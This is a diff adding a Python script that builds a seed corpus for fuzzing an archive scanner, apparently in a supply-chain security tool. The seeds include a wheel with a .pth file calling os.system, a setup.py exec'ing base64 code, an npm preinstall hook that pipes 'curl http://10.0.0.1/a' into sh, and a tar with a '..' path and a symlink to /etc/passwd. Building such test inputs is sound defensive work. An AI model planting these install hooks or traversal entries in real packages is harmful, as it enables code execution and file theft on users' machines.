@@ -1,0 +1,71 @@
+"""Writes a small seed corpus for the `archive` target into corpus/archive/.
+
+Each seed is one byte that picks the artifact's file name (see
+fuzz_targets/archive.rs) followed by a real, tiny artifact: a wheel with a
+.pth file and a setup-time script, an sdist, an npm tarball with an
+install hook, a plain tar with a link and a `..` path. libFuzzer mutates
+from there instead of having to discover the zip and gzip formats.
+Standard library only.
+"""
+
+import gzip
+import io
+import os
+import tarfile
+import zipfile
+
+OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "corpus", "archive")
+WHL, TAR_GZ, TGZ, ZIP, TAR = 0, 1, 2, 3, 4
+
+
+def tar_bytes(entries, links=()):
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w") as tar:
+        for name, data in entries:
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+        for name, target in links:
+            info = tarfile.TarInfo(name)
+            info.type = tarfile.SYMTYPE
+            info.linkname = target
+            tar.addfile(info)
+    return buf.getvalue()
+
+
+def zip_bytes(entries):
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, data in entries:
+            z.writestr(name, data)
+    return buf.getvalue()
+
+
+def main():
+    os.makedirs(OUT, exist_ok=True)
+    setup = b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
+    seeds = {
+        "wheel": (WHL, zip_bytes([
+            ("pkg/__init__.py", b"VALUE = 1\n"),
+            ("pkg.pth", b"import os; os.system('id')\n"),
+            ("pkg-1.0.dist-info/METADATA", b"Name: pkg\nVersion: 1.0\n"),
+        ])),
+        "sdist": (TAR_GZ, gzip.compress(tar_bytes([
+            ("pkg-1.0/setup.py", setup),
+            ("pkg-1.0/PKG-INFO", b"Name: pkg\n"),
+        ]))),
+        "npm": (TGZ, gzip.compress(tar_bytes([
+            ("package/package.json", b'{"name":"pkg","scripts":{"preinstall":"node x.js"}}'),
+            ("package/x.js", b"require('child_process').exec('curl http://10.0.0.1/a|sh')\n"),
+        ]))),
+        "zip": (ZIP, zip_bytes([("a/b.txt", b"a" * 4096)])),
+        "tar": (TAR, tar_bytes([("../escape.py", b"x = 1\n")], links=[("link", "/etc/passwd")])),
+    }
+    for name, (pick, data) in seeds.items():
+        with open(os.path.join(OUT, name), "wb") as f:
+            f.write(bytes([pick]) + data)
+    print(f"{len(seeds)} seeds in {OUT}")
+
+
+if __name__ == "__main__":
+    main()
